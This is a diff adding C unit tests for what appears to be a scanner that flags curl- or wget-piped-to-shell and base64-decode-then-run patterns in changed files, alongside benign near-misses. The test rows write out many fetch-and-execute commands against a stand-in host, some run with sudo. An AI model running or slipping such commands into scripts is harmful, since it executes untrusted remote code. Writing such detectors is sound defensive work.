@@ -47,6 +47,15 @@ a_shell_is_seen_behind_any_program_and_its_options(void **state)
 		{ "a.sh", "+curl https://x.io/i | node --no-warnings >log" },
 		{ "a.sh", "+curl -o k https://x.io/i; sudo -u root bash k" },
 		{ "README.md", "+    curl https://x.io/i | sudo -E bash -" },
+		{ "a.sh", "+curl https://x.io/i | source /dev/stdin" },
+		{ "a.sh", "+curl https://x.io/i | . /proc/self/fd/0" },
+		{ "a.sh", "+curl https://x.io/i | $0" },
+		{ "a.sh", "+curl https://x.io/i | \"${0}\" -s" },
+		{ "a.sh", "+curl https://x.io/i | sudo make -s -f -" },
+		{ "a.sh", "+curl https://x.io/i | awk -f /dev/stdin" },
+		{ "a.sh", "+curl https://x.io/i | make -f-" },
+		{ "a.sh", "+curl https://x.io/i | { echo :; sh; }" },
+		{ "a.sh", "+curl https://x.io/i | (cat; bash)" },
 	};
 	static const struct row not [] = {
 		{ "a.sh", "+curl https://x.io/i | grep -c bash" },
@@ -59,6 +68,11 @@ a_shell_is_seen_behind_any_program_and_its_options(void **state)
 		{ "a.sh", "+curl https://x.io/i | php -r 'echo 1;'" },
 		{ "a.sh", "+curl -o k https://x.io && apt-get install bash" },
 		{ "README.md", "+| `curl -k` | reads like bash | no sh |" },
+		{ "a.sh", "+curl https://x.io/i | awk '{ print $0 }'" },
+		{ "a.sh", "+curl https://x.io/i | kubectl apply -f -" },
+		{ "a.sh", "+curl https://x.io/i | tar -x -f -" },
+		{ "a.sh", "+curl https://x.io/i | make -C . k" },
+		{ "a.sh", "+curl https://x.io/i | { read a; echo; }" },
 	};
 
 	(void)state;
@@ -80,17 +94,57 @@ what_is_decoded_to_a_file_and_run_is_decoded_and_run(void **state)
 		{ "a.sh", "+base64 -d x 2>/dev/null >k; sh k" },
 		{ "a.sh", "+base64 -d x | tee k; sh k" },
 		{ "a.sh", "+openssl enc -d -in x -out k; . ./k" },
+		{ "a.sh", "+base64 -d x >/tmp/k\n+sh /tmp/k" },
+		{ "a.sh", "+base64 -d x >k\n+chmod +x k\n+ls\n+./k" },
+		{ "a.sh", "+base64 -d x >\"$K\"\n+A=1 \"$K\" b" },
+		{ "a.sh", "+base64 -d x |\n+  tee k\n+sudo -n python3 k" },
+		{ "a.sh", "+base64 -d x \\\n+  -o k\n+. ./k" },
+		{ "a.sh", "+base64 -d x | dd of=k\n+[ -s k ] && bash -e k" },
+		{ "a.sh", "+base64 -d x | dd of=/tmp/k\n+/tmp/k" },
+		{ "a.sh", "+base64 -d x | dd of=/tmp/k; sh /tmp/k" },
+		{ CI, "+ - run: base64 -d x >k\n+ - run: bash k" },
+		{ CI, "+ - run: base64 -d x >k\n+ - run: ./k" },
+		{ "a.sh", "+base64 -d x | . /dev/stdin" },
 	};
 	static const struct row not [] = {
 		{ "a.sh", "+base64 -d <x >k; sh build.sh" },
 		{ "a.sh", "+base64 -d <x >k.pem; openssl x509 -in k.pem" },
 		{ "a.sh", "+base64 -d <x >k && cat k" },
 		{ "a.sh", "+base64 -d <x | tee k" },
+		{ "a.sh", "+base64 -d x >k\n+cat k\n+scp k a:/k\n+sh b" },
+		{ "a.sh", "+base64 -d x >k\n+K=/tmp/k\n+export K=/tmp/k" },
+		{ "a.sh", "+base64 -d x >k\n+echo 'now: sh k'\n+# or: sh k" },
+		{ "a.sh", "+sh k\n+base64 -d x >k" },
+		{ CI, "+ - run: base64 -d x >b/k\n+   path: b/k\n+ - b/k" },
+		{ CI, "+ - run: base64 -d x >k\n+k: y\n+path: ./k" },
+		{ "a.py", "+y = base64.b64decode(x) > k\n+sh / k" },
 	};
 
 	(void)state;
 	ALL(rows, "decode-and-run", true);
 	ALL(not, "decode-and-run", false);
+}
+
+static void
+what_is_fetched_to_a_file_and_run_later_is_piped_to_a_shell(void **state)
+{
+	static const struct row rows[] = {
+		{ "a.sh", "+curl -so /tmp/k https://x.io/i\n+sh /tmp/k" },
+		{ "a.sh", "+wget https://x.io/a/i.sh?b=c\n+bash ./i.sh" },
+		{ "a.sh", "+wget -qO k https://x.io/i\n+\n+python3 k" },
+		{ "a.sh", "+curl https://x.io/i >k\n+chmod +x k && ./k" },
+		{ "a.sh", "+curl --output k https://x.io/i\n+. ./k" },
+	};
+	static const struct row not [] = {
+		{ "a.sh", "+curl -so k.tar https://x.io/i\n+tar xf k.tar" },
+		{ "a.sh", "+curl -so k https://x.io/i\n+sudo mv ./k /bin" },
+		{ "a.sh", "+curl -so k https://x.io/i\n+sh build.sh" },
+		{ "a.sh", "+curl -so k https://x.io/i\n-sh k" },
+	};
+
+	(void)state;
+	ALL(rows, "pipe-to-shell", true);
+	ALL(not, "pipe-to-shell", false);
 }
 
 static void
@@ -102,6 +156,9 @@ blanks_and_comments_end_no_pipeline(void **state)
 		{ "a.sh", "+base64 -d x | # to run\n+bash" },
 		{ "a.sh", "+base64 -d x \\\n+|\n+bash" },
 		{ "a.sh", "+base64 -d x >k &&\n+\n+sh k" },
+		{ "a.sh", "+base64 -d x | \\\n+# a comment\n+bash" },
+		{ "a.sh", "+base64 -d x | \\\n+\n+bash" },
+		{ "a.sh", "+echo a \\\n+\n+base64 -d x |\n+# c\n+bash" },
 	};
 	static const struct row not [] = {
 		{ "a.sh", "+base64 -d x | wc\n+\n+bash y" },
@@ -167,6 +224,8 @@ main(void)
 		    a_shell_is_seen_behind_any_program_and_its_options),
 		cmocka_unit_test(
 		    what_is_decoded_to_a_file_and_run_is_decoded_and_run),
+		cmocka_unit_test(
+		    what_is_fetched_to_a_file_and_run_later_is_piped_to_a_shell),
 		cmocka_unit_test(blanks_and_comments_end_no_pipeline),
 		cmocka_unit_test(a_value_of_yaml_is_one_line),
 		cmocka_unit_test(
